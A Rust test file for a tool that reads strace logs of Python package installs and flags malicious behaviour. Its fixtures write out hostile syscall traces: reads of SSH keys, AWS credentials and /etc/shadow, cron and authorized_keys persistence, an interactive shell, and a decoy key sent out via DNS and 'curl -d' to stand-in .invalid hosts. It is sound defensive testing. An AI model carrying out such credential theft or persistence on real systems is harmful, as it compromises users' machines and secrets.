use super::*;

fn context() -> TraceContext {
    TraceContext {
        home: "/w/home".into(),
        environment_roots: vec!["/w/env".into(), "/w/tmp".into(), "/w/work".into()],
        initial_cwd: "/w/work".into(),
        decoys: Vec::new(),
    }
}

fn report_of(install: &str, import: &str) -> BehaviourReport {
    let mut observations = Observations::default();
    observations.read_trace(install, Phase::Install, &context());
    observations.read_trace(import, Phase::Import, &context());
    observations.report()
}

/// What a clean `pip install` of an sdist looks like: pip, its build subprocess, writes
/// into the environment and the temp dir, reads of system files, nscd probing.
const PIP_INSTALL: &str = r#"100 10:00:00.000001 execve("/w/env/bin/python", ["/w/env/bin/python", "-m", "pip", "install", "--no-index", "/io/dist/clean-1.0.tar.gz"], 0x7ffd /* 30 vars */) = 0
100 10:00:00.000002 openat(AT_FDCWD</w/work>, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>
100 10:00:00.000003 openat(AT_FDCWD</w/work>, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>
100 10:00:00.000004 mkdir("/w/tmp/pip-build-env-abc", 0700) = 0
100 10:00:00.000005 openat(AT_FDCWD</w/work>, "/w/tmp/pip-build-env-abc/site/sitecustomize.py", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 4</w/tmp/pip-build-env-abc/site/sitecustomize.py>
100 10:00:00.000006 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 101
101 10:00:00.000007 execve("/w/env/bin/python", ["/w/env/bin/python", "/w/env/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py", "build_wheel", "/w/tmp/tmpx"], 0x55 /* 32 vars */) = 0
101 10:00:00.000008 connect(5<socket:[1]>, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)
101 10:00:00.000009 openat(AT_FDCWD</w/tmp/pip-req-build-x>, "build/lib/clean/__init__.py", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 6</w/tmp/pip-req-build-x/build/lib/clean/__init__.py>
101 10:00:00.000010 +++ exited with 0 +++
100 10:00:00.000011 openat(AT_FDCWD</w/work>, "/w/env/lib/python3.11/site-packages/clean/__init__.py", O_WRONLY|O_CREAT|O_EXCL|O_CLOEXEC, 0644) = 7</w/env/lib/python3.11/site-packages/clean/__init__.py>
100 10:00:00.000012 rename("/w/env/lib/python3.11/site-packages/clean-1.0.dist-info/RECORD.tmp", "/w/env/lib/python3.11/site-packages/clean-1.0.dist-info/RECORD") = 0
100 10:00:00.000013 unlinkat(AT_FDCWD</w/work>, "/w/tmp/pip-build-env-abc", AT_REMOVEDIR) = 0
100 10:00:00.000014 openat(AT_FDCWD</w/work>, "/dev/null", O_WRONLY|O_CLOEXEC) = 8</dev/null>
100 10:00:00.000015 mkdir("/w/home/.cache", 0700) = -1 EEXIST (File exists)
100 10:00:00.000016 +++ exited with 0 +++
"#;

const IMPORT: &str = r#"200 10:00:01.000000 execve("/w/env/bin/python", ["/w/env/bin/python", "-c", "import clean"], 0x7ffd /* 30 vars */) = 0
200 10:00:01.000001 openat(AT_FDCWD</w/work>, "/w/env/lib/python3.11/site-packages/clean/__init__.py", O_RDONLY|O_CLOEXEC) = 3</w/env/lib/python3.11/site-packages/clean/__init__.py>
200 10:00:01.000002 openat(AT_FDCWD</w/work>, "/w/env/lib/python3.11/site-packages/clean/__pycache__/__init__.cpython-311.pyc.1234", O_WRONLY|O_CREAT|O_EXCL|O_CLOEXEC, 0644) = 4</w/env/lib/python3.11/site-packages/clean/__pycache__/__init__.cpython-311.pyc.1234>
200 10:00:01.000003 +++ exited with 0 +++
"#;

#[test]
fn a_normal_pip_install_and_import_is_clean() {
    let report = report_of(PIP_INSTALL, IMPORT);
    assert_eq!(report.verdict, Verdict::Clean, "{:#?}", report.reasons);
    assert!(report.reasons.is_empty());
    assert!(report.network.is_empty() && report.dns.is_empty());
    assert!(report.sensitive_reads.is_empty() && report.persistence.is_empty());
    assert!(
        report.writes_outside.is_empty(),
        "{:?}",
        report.writes_outside
    );
    assert_eq!(report.unix_sockets, vec!["/var/run/nscd/socket"]);
    assert_eq!(report.processes.len(), 3);
    assert!(report
        .processes
        .iter()
        .all(|p| p.kind == ProgramKind::Expected));
    assert_eq!(report.processes[2].phase, Phase::Import);
    assert_eq!(report.trace_lines, 20);
    assert_eq!(report.unparsed_lines, 0);
}

/// The hostile fixture's setup.py, as strace shows it.
const HOSTILE: &str = r#"300 10:00:02.000000 openat(AT_FDCWD</w/tmp/pip-req-build-y>, "/etc/resolv.conf", O_RDONLY|O_CLOEXEC) = 3</etc/resolv.conf>
300 10:00:02.000001 connect(3<socket:[50713]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
300 10:00:02.000002 sendmmsg(3<socket:[50713]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="\312|\1\0\0\1\0\0\0\0\0\0\fpyti-fixture\7invalid\0\0\1\0\1", iov_len=38}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=38}, {msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="0}\1\0\0\1\0\0\0\0\0\0\fpyti-fixture\7invalid\0\0\34\0\1", iov_len=38}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}], 2, MSG_NOSIGNAL) = 1
300 10:00:02.000003 sendto(3<socket:[50713]>, "0}\1\0\0\1\0\0\0\0\0\0\fpyti-fixture\7invalid\0\0\34\0\1", 38, MSG_NOSIGNAL, NULL, 0) = 38
300 10:00:02.000004 connect(4<socket:[50715]>, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 ECONNREFUSED (Connection refused)
300 10:00:02.000005 connect(4<socket:[50716]>, {sa_family=AF_INET6, sin6_port=htons(9), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)
300 10:00:02.000006 openat(AT_FDCWD</w/tmp/pip-req-build-y>, "/w/home/.ssh/id_rsa", O_RDONLY|O_CLOEXEC) = 5</w/home/.ssh/id_rsa>
300 10:00:02.000007 openat(AT_FDCWD</w/tmp/pip-req-build-y>, "/w/home/.aws/credentials", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)
300 10:00:02.000008 vfork( <unfinished ...>
301 10:00:02.000009 execve("/bin/sh", ["sh", "-c", "echo pyti"], 0x7ffc058ec600 /* 35 vars */ <unfinished ...>
300 10:00:02.000010 <... vfork resumed>) = 301
301 10:00:02.000011 <... execve resumed>) = 0
301 10:00:02.000012 +++ exited with 0 +++
300 10:00:02.000013 openat(AT_FDCWD</w/tmp/pip-req-build-y>, "/etc/cron.d/pyti-fixture", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 6</etc/cron.d/pyti-fixture>
"#;

#[test]
fn the_hostile_install_is_malicious_with_every_attempt_listed() {
    let report = report_of(HOSTILE, "");
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(
        report.dns,
        vec![DnsLookup {
            phase: Phase::Install,
            server: "127.0.0.1:53".into(),
            name: Some("pyti-fixture.invalid".into()),
        }]
    );
    let network: Vec<(String, String, u16, String)> = report
        .network
        .iter()
        .map(|n| {
            (
                n.family.clone(),
                n.address.clone(),
                n.port,
                n.result.clone(),
            )
        })
        .collect();
    assert_eq!(
        network,
        vec![
            ("inet".into(), "127.0.0.1".into(), 9, "ECONNREFUSED".into()),
            ("inet6".into(), "::1".into(), 9, "ENETUNREACH".into()),
        ]
    );
    let sensitive: Vec<(&str, SensitiveKind, &str)> = report
        .sensitive_reads
        .iter()
        .map(|r| (r.path.as_str(), r.kind, r.result.as_str()))
        .collect();
    assert_eq!(
        sensitive,
        vec![
            (
                "/w/home/.aws/credentials",
                SensitiveKind::CloudCredentials,
                "ENOENT"
            ),
            ("/w/home/.ssh/id_rsa", SensitiveKind::SshKey, "ok"),
        ]
    );
    assert_eq!(report.processes.len(), 1);
    assert_eq!(report.processes[0].argv, vec!["sh", "-c", "echo pyti"]);
    assert_eq!(report.processes[0].kind, ProgramKind::Shell);
    assert_eq!(
        report.persistence,
        vec![PersistenceAttempt {
            phase: Phase::Install,
            path: "/etc/cron.d/pyti-fixture".into(),
            kind: PersistenceKind::Cron,
            syscall: "openat".into(),
            result: "ok".into(),
        }]
    );
    let rules: Vec<(Verdict, Rule)> = report
        .reasons
        .iter()
        .map(|r| (r.severity, r.rule))
        .collect();
    assert_eq!(
        rules,
        vec![
            (Verdict::Malicious, Rule::SensitiveFileRead),
            (Verdict::Malicious, Rule::SensitiveFileRead),
            (Verdict::Malicious, Rule::Persistence),
            (Verdict::Suspicious, Rule::NetworkAttempt),
            (Verdict::Suspicious, Rule::NetworkAttempt),
            (Verdict::Suspicious, Rule::DnsLookup),
            (Verdict::Suspicious, Rule::ShellSpawned),
        ]
    );
    assert_eq!(
        report.reasons[2].detail,
        "openat /etc/cron.d/pyti-fixture (cron, ok) during install"
    );
    assert_eq!(
        report.reasons[5].detail,
        "looked up pyti-fixture.invalid via 127.0.0.1:53 during install"
    );
}

#[test]
fn each_kind_of_attempt_alone_gives_its_verdict() {
    let cases: &[(&str, Verdict, Rule)] = &[
        (
            r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)"#,
            Verdict::Malicious,
            Rule::SensitiveFileRead,
        ),
        (
            r#"1 10:00:00.000000 open("/root/.bash_history", O_RDONLY) = 3</root/.bash_history>"#,
            Verdict::Malicious,
            Rule::SensitiveFileRead,
        ),
        (
            r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/w/home/.mozilla/firefox/p/logins.json", O_RDONLY) = 3</w/home/.mozilla/firefox/p/logins.json>"#,
            Verdict::Malicious,
            Rule::SensitiveFileRead,
        ),
        (
            r#"1 10:00:00.000000 rename("/w/tmp/x", "/w/home/.bashrc") = 0"#,
            Verdict::Malicious,
            Rule::Persistence,
        ),
        (
            r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/w/home/.ssh/authorized_keys", O_WRONLY|O_APPEND) = 3</w/home/.ssh/authorized_keys>"#,
            Verdict::Malicious,
            Rule::Persistence,
        ),
        (
            r#"1 10:00:00.000000 symlinkat("/w/tmp/evil.service", AT_FDCWD</x>, "/etc/systemd/system/evil.service") = 0"#,
            Verdict::Malicious,
            Rule::Persistence,
        ),
        (
            r#"1 10:00:00.000000 execve("/usr/bin/crontab", ["crontab", "/w/tmp/c"], 0x1 /* 1 var */) = 0"#,
            Verdict::Malicious,
            Rule::Persistence,
        ),
        (
            r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/usr/lib/python3/dist-packages/zz.pth", O_WRONLY|O_CREAT, 0644) = 3</usr/lib/python3/dist-packages/zz.pth>"#,
            Verdict::Malicious,
            Rule::Persistence,
        ),
        (
            r#"1 10:00:00.000000 sendto(3<socket:[9]>, "hello", 5, 0, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.0.0.1")}, 16) = -1 ENETUNREACH (Network is unreachable)"#,
            Verdict::Suspicious,
            Rule::NetworkAttempt,
        ),
        (
            r#"1 10:00:00.000000 sendmsg(3<socket:[9]>, {msg_name={sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.2")}, msg_namelen=16, msg_iov=[{iov_base="\0\1\1\0\0\1\0\0\0\0\0\0\3evil\7invalid\0\0\1\0\1", iov_len=30}], msg_iovlen=1}, 0) = 30"#,
            Verdict::Suspicious,
            Rule::DnsLookup,
        ),
        (
            r#"1 10:00:00.000000 execve("/usr/bin/curl", ["curl", "http://example.invalid/"], 0x1 /* 1 var */) = 0"#,
            Verdict::Suspicious,
            Rule::NetworkTool,
        ),
        (
            r#"1 10:00:00.000000 execve("/bin/bash", ["bash", "-i"], 0x1 /* 1 var */) = 0"#,
            Verdict::Suspicious,
            Rule::ShellSpawned,
        ),
        (
            r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/opt/marker", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</opt/marker>"#,
            Verdict::Suspicious,
            Rule::WriteOutsideEnvironment,
        ),
        (
            r#"1 10:00:00.000000 unlink("/etc/motd") = 0"#,
            Verdict::Suspicious,
            Rule::WriteOutsideEnvironment,
        ),
    ];
    for (line, verdict, rule) in cases {
        let report = report_of(line, "");
        assert_eq!(report.verdict, *verdict, "{line}");
        assert_eq!(report.reasons.len(), 1, "{line}: {:?}", report.reasons);
        assert_eq!(report.reasons[0].rule, *rule, "{line}");
    }
}

#[test]
fn relative_paths_follow_chdir_and_are_inherited_by_children() {
    let trace = r#"1 10:00:00.000000 chdir("/w/home") = 0
1 10:00:00.000001 clone(child_stack=NULL, flags=SIGCHLD) = 2
2 10:00:00.000002 mkdir(".config/autostart", 0777) = 0
1 10:00:00.000003 chdir("/etc") = 0
1 10:00:00.000004 openat(AT_FDCWD, "cron.d/../crontab", O_WRONLY|O_APPEND) = -1 EACCES (Permission denied)
"#;
    let report = report_of(trace, "");
    let paths: Vec<(&str, PersistenceKind, &str)> = report
        .persistence
        .iter()
        .map(|p| (p.path.as_str(), p.kind, p.result.as_str()))
        .collect();
    assert_eq!(
        paths,
        vec![
            ("/etc/crontab", PersistenceKind::Cron, "EACCES"),
            (
                "/w/home/.config/autostart",
                PersistenceKind::Autostart,
                "ok"
            ),
        ]
    );
}

#[test]
fn writes_relative_to_a_directory_descriptor() {
    let trace = r#"1 10:00:00.000000 openat(3</etc/profile.d>, "evil.sh", O_WRONLY|O_CREAT, 0644) = -1 EROFS (Read-only file system)"#;
    let report = report_of(trace, "");
    assert_eq!(report.persistence[0].path, "/etc/profile.d/evil.sh");
    assert_eq!(report.persistence[0].kind, PersistenceKind::ShellRc);
}

#[test]
fn failed_exec_lookups_and_harmless_failures_are_not_findings() {
    let trace = r#"1 10:00:00.000000 execve("/usr/local/bin/sh", ["sh", "-c", "x"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)
1 10:00:00.000001 unlink("/etc/nothing") = -1 ENOENT (No such file or directory)
1 10:00:00.000002 mkdir("/etc", 0755) = -1 EEXIST (File exists)
1 10:00:00.000003 openat(AT_FDCWD</x>, "/proc/self/oom_score_adj", O_WRONLY) = 3</proc/1/oom_score_adj>
"#;
    let report = report_of(trace, "");
    assert_eq!(report.verdict, Verdict::Clean, "{:?}", report.reasons);
    assert!(report.processes.is_empty());
}

#[test]
fn dns_without_a_visible_name_is_still_a_lookup() {
    let trace = r#"1 10:00:00.000000 connect(3<socket:[7]>, {sa_family=AF_INET6, sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "fe80::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)"#;
    let report = report_of("", trace);
    assert_eq!(
        report.dns,
        vec![DnsLookup {
            phase: Phase::Import,
            server: "fe80::1:53".into(),
            name: None
        }]
    );
    assert_eq!(report.verdict, Verdict::Suspicious);
}

#[test]
fn repeated_attempts_are_listed_once() {
    let line =
        r#"1 10:00:00.000000 openat(AT_FDCWD</x>, "/root/.pypirc", O_RDONLY) = 3</root/.pypirc>"#;
    let trace = format!("{line}\n{line}\n{line}\n");
    let report = report_of(&trace, &trace);
    assert_eq!(report.sensitive_reads.len(), 2);
    assert_eq!(report.reasons.len(), 2);
}

#[test]
fn dns_query_names() {
    let udp = b"\xca|\x01\0\0\x01\0\0\0\0\0\0\x0cpyti-fixture\x07invalid\0\0\x01\0\x01";
    assert_eq!(dns_query_name(udp).as_deref(), Some("pyti-fixture.invalid"));
    let mut tcp = vec![0u8, 38];
    tcp.extend_from_slice(udp);
    assert_eq!(
        dns_query_name(&tcp).as_deref(),
        Some("pyti-fixture.invalid")
    );
    assert_eq!(dns_query_name(b"\0\0\0"), None);
    assert_eq!(dns_query_name(b"\0\0\0\0\0\0\0\0\0\0\0\0\x05a b\0"), None);
}

#[test]
fn report_serialises_with_stable_names() {
    let report = report_of(HOSTILE, "");
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["verdict"], "malicious");
    assert_eq!(json["sensitive_reads"][1]["kind"], "ssh_key");
    assert_eq!(json["persistence"][0]["kind"], "cron");
    assert_eq!(json["reasons"][0]["rule"], "sensitive_file_read");
    let back: BehaviourReport = serde_json::from_value(json).unwrap();
    assert_eq!(back, report);
}

#[test]
fn cut_and_garbled_traces_never_panic() {
    let traces = [PIP_INSTALL, IMPORT, HOSTILE];
    for trace in traces {
        for cut in (0..trace.len()).filter(|i| trace.is_char_boundary(*i)) {
            let mut observations = Observations::default();
            observations.read_trace(&trace[..cut], Phase::Install, &context());
            let _ = observations.report();
        }
        let garbled: String = trace
            .chars()
            .map(|c| match c {
                '(' => ')',
                '"' => '\\',
                '<' => '>',
                other => other,
            })
            .collect();
        let report = report_of(&garbled, "é\u{0}\"\\");
        assert!(report.unparsed_lines > 0);
    }
}

#[test]
fn decoy_reads_and_uses_of_their_values_are_exfiltration() {
    let mut context = context();
    context.decoys = vec![Decoy {
        label: "aws credentials".into(),
        path: Some("/w/home/.aws/credentials".into()),
        value: "AKIAQWERTYUIOPASDFGH".into(),
    }];
    let trace = r#"300 10:00:00.000000 openat(AT_FDCWD</w/work>, "/w/home/.aws/credentials", O_RDONLY|O_CLOEXEC) = 3</w/home/.aws/credentials>
300 10:00:01.000000 connect(3<socket:[50713]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
300 10:00:02.000003 sendto(3<socket:[50713]>, "0}\1\0\0\1\0\0\0\0\0\0\24akiaqwertyuiopasdfgh\3spy\7invalid\0\0\34\0\1", 44, MSG_NOSIGNAL, NULL, 0) = 44
300 10:00:03.000000 execve("/usr/bin/curl", ["curl", "-d", "k=AKIAQWERTYUIOPASDFGH", "http://x.invalid"], 0x7ffd /* 9 vars */) = 0
"#;
    let mut observations = Observations::default();
    observations.read_trace(trace, Phase::Tests, &context);
    let report = observations.report();
    let details: Vec<&str> = report
        .exfiltration
        .iter()
        .map(|e| e.detail.as_str())
        .collect();
    assert!(
        details.contains(&"opened /w/home/.aws/credentials (ok)"),
        "{details:#?}"
    );
    assert!(
        details.contains(&"its value in the DNS query for akiaqwertyuiopasdfgh.spy.invalid"),
        "{details:#?}"
    );
    assert!(
        details.iter().any(|d| d.contains("k=akiaqwertyuiopasdfgh")),
        "{details:#?}"
    );
    assert!(report.exfiltration.iter().all(|e| e.phase == Phase::Tests));
    assert_eq!(report.verdict, Verdict::Malicious);
    assert!(report
        .reasons
        .iter()
        .any(|r| r.rule == Rule::Exfiltration && r.detail.ends_with("during tests")));
}
